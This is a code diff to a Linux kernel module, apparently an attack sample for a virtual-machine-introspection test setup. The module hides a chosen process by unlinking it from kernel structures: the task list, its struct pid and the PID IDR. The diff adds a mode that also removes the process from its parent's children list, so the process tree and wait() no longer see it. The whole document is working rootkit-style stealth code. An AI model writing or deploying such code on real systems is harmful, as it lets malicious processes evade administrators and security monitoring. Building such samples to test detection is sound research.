@@ -24,6 +24,12 @@
  * usual, but nothing that walks or looks up the IDR finds it. Meant for a
  * sleeping process: no source but its parent's children list is left.
  * Unloading puts the entry back.
+ *
+ * mode=tree does all that and also takes the task off its parent's
+ * children list (its sibling node made to point at itself, so that
+ * __unhash_process() at exit unlinks it harmlessly): wait() and the
+ * process tree no longer see it. Only its css_set's task list (cg_list)
+ * is left. Unloading puts it back on its parent's children list.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -55,7 +61,7 @@ MODULE_PARM_DESC(pidmap, "address of pidmap_lock (from /proc/kallsyms), for mode
 
 static char *mode = "list";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR");
+MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR; tree: also off its parent's children list");
 
 static struct task_struct *victim;
 static struct pid *victim_pid;
@@ -79,14 +85,28 @@ static bool mode_is(const char *m)
 	return !strcmp(mode, m);
 }
 
+/* Off @node's list, once RCU readers are done pointing at itself. */
+static void list_unlink(rwlock_t *lock, struct list_head *node)
+{
+	write_lock_irq(lock);
+	list_del_rcu(node);
+	write_unlock_irq(lock);
+	synchronize_rcu();
+	write_lock_irq(lock);
+	INIT_LIST_HEAD(node);
+	write_unlock_irq(lock);
+}
+
 static int __init vmiaas_attack_hideproc_init(void)
 {
 	rwlock_t *lock = (rwlock_t *)tasklist;
 	struct pid *p;
 
+	bool erase = mode_is("pidfree") || mode_is("tree");
+
 	if (pid <= 1 || !tasklist ||
-	    !(mode_is("list") || mode_is("idr") || mode_is("pidfree")) ||
-	    (mode_is("pidfree") && !pidmap))
+	    !(mode_is("list") || mode_is("idr") || erase) ||
+	    (erase && !pidmap))
 		return -EINVAL;
 	p = find_get_pid(pid);
 	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
@@ -100,13 +120,7 @@ static int __init vmiaas_attack_hideproc_init(void)
 		return -EINVAL;
 	}
 	victim_pid = p;		/* the reference is kept until unload */
-	write_lock_irq(lock);
-	list_del_rcu(&victim->tasks);
-	write_unlock_irq(lock);
-	synchronize_rcu();
-	write_lock_irq(lock);
-	INIT_LIST_HEAD(&victim->tasks);
-	write_unlock_irq(lock);
+	list_unlink(lock, &victim->tasks);
 	pr_info("pid %d (%s) unlinked from the task list\n", pid, victim->comm);
 	if (!mode_is("list")) {
 		write_lock_irq(lock);
@@ -121,10 +135,15 @@ static int __init vmiaas_attack_hideproc_init(void)
 		pr_info("pid %d (%s) unlinked from its struct pid\n", pid,
 			victim->comm);
 	}
-	if (mode_is("pidfree")) {
+	if (erase) {
 		pid_erased = idr_set(victim_pid, NULL) == victim_pid;
 		pr_info("pid %d (%s) %s the IDR\n", pid, victim->comm,
 			pid_erased ? "erased from" : "not found in");
+	}
+	if (mode_is("tree")) {
+		list_unlink(lock, &victim->sibling);
+		pr_info("pid %d (%s) unlinked from its parent's children list\n",
+			pid, victim->comm);
 	}
 	return 0;
 }
@@ -141,6 +160,9 @@ static void __exit vmiaas_attack_hideproc_exit(void)
 	write_lock_irq(lock);
 	if (pid_alive(victim) && list_empty(&victim->tasks))
 		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
+	if (mode_is("tree") && pid_alive(victim) &&
+	    list_empty(&victim->sibling))
+		list_add_tail(&victim->sibling, &victim->real_parent->children);
 	/* Hashed back only while it still points at itself and lives. */
 	if (pid_alive(victim) && link->pprev == &link->next &&
 	    task_pid(victim) == victim_pid)
